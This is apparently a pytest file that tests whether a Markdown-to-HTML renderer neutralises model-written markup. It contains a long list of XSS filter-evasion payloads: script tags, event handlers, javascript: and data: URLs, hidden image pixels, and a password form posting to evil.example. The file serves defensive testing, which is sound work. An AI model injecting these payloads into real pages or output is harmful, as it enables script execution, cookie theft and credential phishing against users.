"""What a model writes, as HTML: nothing in it acts, whatever it tries."""

import time

import nh3
import pytest
from lxml import html as lxml_html

from operators.people.markup import MAX_CHARS, rendered

# By the OWASP cheat sheet on filter evasion, and by what Markdown adds to it.
TRICKS = [
    "<script>alert(1)</script>",
    '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<script\x00>alert(1)</script>",
    "<script/xss src='https://evil.example/x.js'></script>",
    "<script\n>alert(1)</script\n>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<IMG onmouseover="alert(1)">',
    '<img src="https://evil.example/pixel.png">',
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><maction actiontype='statusline#https://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<body onload=alert(1)>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<iframe src=https://evil.example></iframe>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<EMBED SRC='data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+'>",
    "<LINK REL='stylesheet' HREF='javascript:alert(1);'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<div style='position:fixed;inset:0'>Log in again</div>",
    "<META HTTP-EQUIV='refresh' CONTENT='0;url=javascript:alert(1);'>",
    "<meta http-equiv='Set-Cookie' content='USERID=<SCRIPT>alert(1)</SCRIPT>'>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<form action=https://evil.example><input name=password><button>OK</button></form>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a onclick=alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<x onclick=alert(1)>x</x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "[x](about:blank)",
    '[x](https://a.example "onmouseover=alert(1) x=")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x"onerror=alert(1)](https://evil.example/a.png)',
    "![![x](https://evil.example/1.png)](https://evil.example/2.png)",
    "[![x](https://evil.example/pixel.png)](https://evil.example/)",
    '```"><script>alert(1)</script>\nx\n```',
    "``` <img/src=x/onerror=alert(1)>\nx\n```",
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "> <iframe src=//evil.example>",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ud83d<script>alert(1)</script>".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "\u2028<script>alert(1)</script>\u202e",
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
]
HARMLESS_TAGS = {
    *("div", "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "em", "strong", "s"),
    *("a", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td"),
}


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_of_the_book_does_nothing(trick: str) -> None:
    for text in (trick, f"Before\n\n{trick}\n\nafter", f"**{trick}**"):
        for element in lxml_html.fragment_fromstring(str(rendered(text))).iter():
            assert element.tag in HARMLESS_TAGS
            assert set(element.attrib) <= {"href", "title", "rel", "class", "start"}
            assert element.get("class") in (None, "op-markdown")
            assert element.get("href", "https:").split(":")[0] in ("http", "https", "mailto")


def test_a_link_takes_nothing_along() -> None:
    assert 'rel="noopener noreferrer nofollow"' in rendered("[x](https://a.example/)")
    assert 'rel="noopener noreferrer nofollow"' in rendered("See https://a.example/ for more.")


def test_an_image_becomes_a_link_to_it() -> None:
    html = rendered("![A cat](https://a.example/cat.png)")
    assert '<a href="https://a.example/cat.png" rel="noopener noreferrer nofollow">A cat</a>' in html


def test_what_markdown_is_for_is_rendered() -> None:
    html = rendered("# Title\n\n- one\n- *two*\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx < 1\n```\n\n~~no~~")
    for piece in ("<h1>Title</h1>", "<li>one</li>", "<em>two</em>", "<td>2</td>", "x &lt; 1", "<s>no</s>"):
        assert piece in html


def test_a_line_end_is_one() -> None:
    assert "one<br>" in rendered("one\ntwo")


@pytest.mark.parametrize("piece", ["[", "![", "*a ", "_a_b", "> ", "`", "<", "[a](", "|a", "- ", "http://a.b/", "\\"])
def test_no_text_takes_long(piece: str) -> None:
    began = time.process_time()
    html = rendered(piece * (MAX_CHARS // len(piece)))
    assert nh3.is_html(html)
    assert time.process_time() - began < 20


def test_a_text_without_end_is_shown_as_it_is() -> None:
    html = rendered("<b>*a*</b>" * MAX_CHARS)
    assert html.startswith('<div class="op-plain">&lt;b&gt;*a*&lt;/b&gt;')
